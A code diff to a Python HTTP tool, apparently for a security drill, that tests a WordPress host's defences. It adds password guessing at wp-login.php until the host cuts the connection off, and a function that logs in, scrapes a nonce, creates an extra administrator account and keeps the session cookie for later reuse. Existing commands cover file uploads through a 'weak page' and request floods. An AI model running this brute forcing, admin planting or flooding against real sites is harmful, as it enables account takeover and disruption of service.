@@ -3,44 +3,57 @@
     upload ADDRESS NAME PAGE FILE…   post files (name=base64) through the weak page
     get ADDRESS NAME PATH [AGENT]    one request; status, SHA-256 and text
     post ADDRESS NAME PATH NAME=TEXT…   one form, sent; status, where it leads, text
-    guess ADDRESS NAME LOGIN:RIGHT COUNT RATE   wrong passwords at WordPress's login, then the right one
+    send ADDRESS NAME PATH FIELD FILE   post one file (name=base64) as a form's attachment
+    guess ADDRESS NAME LOGIN:RIGHT SOURCE COUNT RATE   wrong passwords at WordPress's login, then the right one
+    login ADDRESS NAME LOGIN:PASSWORD   whether that password logs in
+    enter ADDRESS NAME LOGIN:PASSWORD SOURCE LOGIN:PASSWORD   log in, add an administrator, keep the session
+    inside ADDRESS NAME SOURCE       whether the kept session still opens the administration
     ask ADDRESS NAME PATH COUNT RATE   numbered requests at a rate; how many were answered with what
     flood ADDRESS NAME PATH COUNT RATE LOG   the same, and goes on until it is cut off; note each answer's time
     hold ADDRESS NAME LOG SECONDS    keep one HTTP connection alive, note each answer's time
     listen PORT LOG SECONDS          accept one connection from the host, note when each line arrives
     call ADDRESS PORT SECONDS        (on the host) keep one connection outwards alive
 
-Times are seconds since the epoch. Each loop ends by itself.
+Times are seconds since the epoch. Each loop ends by itself. SOURCE: which of its own addresses is used.
 """
 
 import base64
 import hashlib
 import http.client
 import json
+import re
 import socket
 import sys
 import time
 import urllib.parse
 from pathlib import Path
 
+_SESSION = Path("/run/ungcuu-drill-session")
 _BEAT = 0.2
 _SILENCE = 5.0  # a busy host answers late; the time of the last answer shows when it was cut
 
 
-def get(address: str, name: str, path: str, agent: str = "Mozilla/5.0") -> dict[str, object]:
-    """One request, read as a visitor would."""
-    connection = http.client.HTTPConnection(address, 80, timeout=8)
+def _asked(
+    address: str, name: str, request: str, body: bytes | str = b"", source: str = "", **headers: str
+) -> dict[str, object]:
+    """One request, METHOD and PATH, and its answer. Status 0 where nothing answered."""
+    method, _, path = request.partition(" ")
+    connection = http.client.HTTPConnection(address, 80, timeout=8, source_address=(source, 0) if source else None)
     try:
-        connection.request("GET", path, headers={"Host": name, "User-Agent": agent})
+        lines = {"Host": name, **{key.replace("_", "-"): value for key, value in headers.items() if value}}
+        connection.request(method, path, body or None, lines)
         answer = connection.getresponse()
-        body = answer.read()
+        content = answer.read()
     except OSError as error:
         return {"status": 0, "error": type(error).__name__}
-    return {
-        "status": answer.status,
-        "sha256": hashlib.sha256(body).hexdigest(),
-        "text": body.decode("utf-8", "replace"),
-    }
+    cookies = "; ".join(one.partition(";")[0] for one in answer.headers.get_all("Set-Cookie") or [])
+    found = {"status": answer.status, "to": answer.getheader("Location", ""), "cookies": cookies}
+    return {**found, "sha256": hashlib.sha256(content).hexdigest(), "text": content.decode("utf-8", "replace")}
+
+
+def get(address: str, name: str, path: str, agent: str = "Mozilla/5.0") -> dict[str, object]:
+    """One request, read as a visitor would."""
+    return _asked(address, name, f"GET {path}", User_Agent=agent)
 
 
 def upload(address: str, name: str, page: str, *files: str) -> list[dict[str, object]]:
@@ -57,29 +70,67 @@ def upload(address: str, name: str, page: str, *files: str) -> list[dict[str, ob
     return said
 
 
-def post(address: str, name: str, path: str, *fields: str) -> dict[str, object]:
+def post(address: str, name: str, path: str, *fields: str, source: str = "", cookie: str = "") -> dict[str, object]:
     """One form, sent. Status 0 where nothing answered."""
     body = urllib.parse.urlencode([field.partition("=")[::2] for field in fields])
-    connection = http.client.HTTPConnection(address, 80, timeout=8)
-    headers = {"Host": name, "Content-Type": "application/x-www-form-urlencoded"}
-    try:
-        connection.request("POST", path, body, headers)
-        answer = connection.getresponse()
-        text = answer.read().decode("utf-8", "replace")
-    except OSError as error:
-        return {"status": 0, "error": type(error).__name__}
-    return {"status": answer.status, "to": answer.getheader("Location", ""), "text": text[:4000]}
+    form = "application/x-www-form-urlencoded"
+    answer = _asked(address, name, f"POST {path}", body, source, Content_Type=form, Cookie=cookie)
+    return {**answer, "text": str(answer.get("text", ""))[:4000]}
 
 
-def guess(address: str, name: str, account: str, count: str, rate: str) -> dict[str, object]:
-    """Wrong passwords at a rate a second, then the right one; `in`: whether that one logged in."""
-    login, _, right = account.partition(":")
-    wrong, at = 0, "/wp-login.php"
+def send(address: str, name: str, path: str, field: str, file: str) -> dict[str, object]:
+    """One file, sent as browsers send an attachment."""
+    target, _, content = file.partition("=")
+    head = f'--drill\r\nContent-Disposition: form-data; name="{field}"; filename="{target}"\r\n\r\n'
+    body = head.encode() + base64.b64decode(content) + b"\r\n--drill--\r\n"
+    return _asked(address, name, f"POST {path}", body, Content_Type="multipart/form-data; boundary=drill")
+
+
+def _let_in(address: str, name: str, account: str, source: str = "") -> dict[str, object]:
+    """Log in to WordPress; `in`: whether it did."""
+    login, _, word = account.partition(":")
+    answer = post(address, name, "/wp-login.php", f"log={login}", f"pwd={word}", source=source)
+    return {**answer, "in": answer["status"] == 302 and "wp-admin" in str(answer["to"])}
+
+
+def login(address: str, name: str, account: str) -> dict[str, object]:
+    """Whether a password logs in."""
+    answer = _let_in(address, name, account)
+    return {"in": answer["in"], "status": answer["status"]}
+
+
+def guess(address: str, name: str, account: str, source: str, *pace: str) -> dict[str, object]:
+    """Wrong passwords at a rate a second until nothing answers, then the right one; `in`: whether that one got in."""
+    count, rate = pace
+    wrong, status = 0, 200
     for number in range(int(count)):
-        wrong += post(address, name, at, f"log={login}", f"pwd=no-{number}")["status"] == 200
+        status = int(str(_let_in(address, name, f"{account.partition(':')[0]}:no-{number}", source)["status"]))
+        if status == 0:
+            break
+        wrong += 1
         time.sleep(1 / float(rate))
-    last = post(address, name, at, f"log={login}", f"pwd={right}")
-    return {"wrong": wrong, "in": last["status"] == 302 and "wp-admin" in str(last["to"])}
+    return {"wrong": wrong, "banned": status == 0, "in": _let_in(address, name, account, source)["in"]}
+
+
+def enter(address: str, name: str, account: str, source: str, own: str) -> dict[str, object]:
+    """Log in with the guessed password, and add an administrator of one's own by the application's form."""
+    came, at = _let_in(address, name, account, source), "/wp-admin/user-new.php"
+    cookie = str(came.get("cookies", ""))
+    page = str(_asked(address, name, f"GET {at}", source=source, Cookie=cookie).get("text", ""))
+    proof = re.search(r'name="_wpnonce_create-user" value="(\w+)"', page)
+    login, _, word = own.partition(":")
+    fields = {"action": "createuser", "_wpnonce_create-user": proof[1] if proof else "", "role": "administrator"}
+    fields |= {"user_login": login, "email": f"{login}@mail.invalid", "pass1": word, "pass2": word, "pw_weak": "on"}
+    made = post(address, name, at, *map("=".join, fields.items()), source=source, cookie=cookie)
+    _SESSION.write_text(cookie, encoding="ascii")
+    return {"in": came["in"], "made": made["status"] == 302 and "users.php" in str(made["to"]), "form": bool(proof)}
+
+
+def inside(address: str, name: str, source: str) -> dict[str, object]:
+    """Whether the kept session still opens the administration."""
+    cookie = _SESSION.read_text("ascii")
+    answer = _asked(address, name, "GET /wp-admin/profile.php", source=source, Cookie=cookie)
+    return {"inside": answer["status"] == 200}
 
 
 def ask(address: str, name: str, path: str, count: str, rate: str) -> dict[str, object]:
